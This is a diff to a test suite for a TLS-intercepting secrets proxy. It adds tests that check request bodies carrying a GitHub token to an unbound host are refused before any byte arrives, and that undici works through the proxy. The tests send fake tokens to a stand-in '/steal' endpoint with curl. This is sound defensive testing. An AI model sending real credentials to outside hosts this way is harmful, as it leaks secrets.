@@ -16,7 +16,7 @@ import { loadOrCreateCa } from '../../lib/tls/ca.js';
 import { LeafCache } from '../../lib/tls/leaves.js';
 import { buildCertificate, toPem } from '../../lib/tls/x509.js';
 import { mkdirSync } from 'node:fs';
-import { cli, needs, tempHome } from '../helpers.js';
+import { cli, needs, REPO, tempHome } from '../helpers.js';
 
 const REAL = 'ghp_realRealRealRealRealRealReal0123456';
 const PH = 'ghp_SBPHplaceholderPlaceholderPlace01';
@@ -51,6 +51,8 @@ async function listen(server: { listen(port: number, host: string, cb: () => voi
 describe('TLS interception and secrets (real HTTPS upstream, curl)', () => {
   const t = tempHome();
   const seen: Array<{ path: string; host?: string; auth?: string; ae?: string }> = [];
+  /** Every request body byte the upstream received. */
+  let received = '';
   const audit: Array<Record<string, unknown>> = [];
   let upstream: tls.Server & Server;
   let proxy: Server;
@@ -69,12 +71,16 @@ describe('TLS interception and secrets (real HTTPS upstream, curl)', () => {
     const https = await import('node:https');
     upstream = https.createServer({ key: leaf.keyPem, cert: leaf.certPem, SNICallback: (name, cb) => cb(null, tls.createSecureContext(name === 'other.test' ? { key: otherLeaf.keyPem, cert: otherLeaf.certPem } : { key: leaf.keyPem, cert: leaf.certPem })) }, (req, res) => {
       seen.push({ path: req.url ?? '', host: req.headers.host, auth: req.headers.authorization, ae: req.headers['accept-encoding'] as string });
-      if (req.url === '/redirect') {
-        res.writeHead(302, { Location: `https://other.test:${upPort}/landed` });
-        return void res.end();
-      }
-      res.setHeader('X-Echo-Auth', req.headers.authorization ?? '');
-      res.end(`you sent ${req.headers.authorization ?? ''} ${req.url}\n`);
+      req.setEncoding('latin1').on('data', (d: string) => (received += d));
+      // Answers once the whole body is in, as most servers do for a POST.
+      req.on('end', () => {
+        if (req.url === '/redirect') {
+          res.writeHead(302, { Location: `https://other.test:${upPort}/landed` });
+          return void res.end();
+        }
+        res.setHeader('X-Echo-Auth', req.headers.authorization ?? '');
+        res.end(`you sent ${req.headers.authorization ?? ''} ${req.url}\n`);
+      });
     }) as never;
     upPort = await listen(upstream);
     const ca = await loadOrCreateCa(t.sbHome);
@@ -155,6 +161,43 @@ describe('TLS interception and secrets (real HTTPS upstream, curl)', () => {
       'the real value of GITHUB_TOKEN headed to other.test (Authorization: Basic), which it is not bound to',
       'a value of GITHUB_TOKEN in the URL headed to other.test, which it is not bound to',
     ]);
+  });
+
+  test('request bodies: a secret value headed to an unbound host is refused before it leaves; to the bound host the body passes unchanged', async () => {
+    seen.length = 0;
+    received = '';
+    const audited = audit.length;
+    for (const value of [PH, REAL]) {
+      const r = await via(`https://other.test:${upPort}/steal`, ['--data-binary', `token=${value}`, '-D', '-']);
+      assert.match(r.stdout, /^HTTP\/1\.1 403 Forbidden\r\n/, r.stdout + r.stderr);
+    }
+    assert.deepEqual([seen, received], [[], '']);
+    // A value deep in a large body, split across many chunks: the upstream may see the start, never the value.
+    const big = join(t.dir, 'big-body');
+    writeFileSync(big, 'a'.repeat(300_000) + PH + 'b'.repeat(1000));
+    await via(`https://other.test:${upPort}/steal`, ['--data-binary', `@${big}`]);
+    await new Promise((r) => setTimeout(r, 200));
+    assert.equal(received.includes(PH), false);
+    assert.equal(received.includes(PH.slice(0, 8)), false);
+    assert.deepEqual(audit.slice(audited).filter((x) => x.exfiltration === true).map((x) => x.rule), [
+      'the placeholder of GITHUB_TOKEN headed to other.test (request body), which it is not bound to',
+      'the real value of GITHUB_TOKEN headed to other.test (request body), which it is not bound to',
+      'the placeholder of GITHUB_TOKEN headed to other.test (request body), which it is not bound to',
+    ]);
+    received = '';
+    const ok = await via(`https://api.test:${upPort}/post`, ['--data-binary', `token=${PH}`]);
+    assert.equal(ok.stdout, 'you sent  /post\n');
+    assert.equal(received, `token=${PH}`);
+  });
+
+  test("Node's undici with EnvHttpProxyAgent through the proxy, trusting the CA by NODE_EXTRA_CA_CERTS", async () => {
+    seen.length = 0;
+    const js = `const { fetch, EnvHttpProxyAgent } = require('undici');
+      fetch('https://api.test:${upPort}/undici', { headers: { authorization: 'token ${PH}' }, dispatcher: new EnvHttpProxyAgent() })
+        .then(async (r) => process.stdout.write(r.status + ' ' + r.headers.get('x-echo-auth') + ' ' + (await r.text())), (e) => { console.error(e); process.exit(1); });`;
+    const r = await run(process.execPath, ['-e', js], { cwd: REPO, env: { PATH: process.env.PATH, HTTPS_PROXY: proxyUrl, NODE_EXTRA_CA_CERTS: caFile } });
+    assert.equal(r.stdout + r.stderr, `200 token ${PH} you sent token ${PH} /undici\n`);
+    assert.deepEqual(seen.map((x) => [x.path, x.auth]), [['/undici', `token ${REAL}`]]);
   });
 
   test('inside a tunnel: a different Host, absolute-form and duplicate Authorization are refused', async () => {
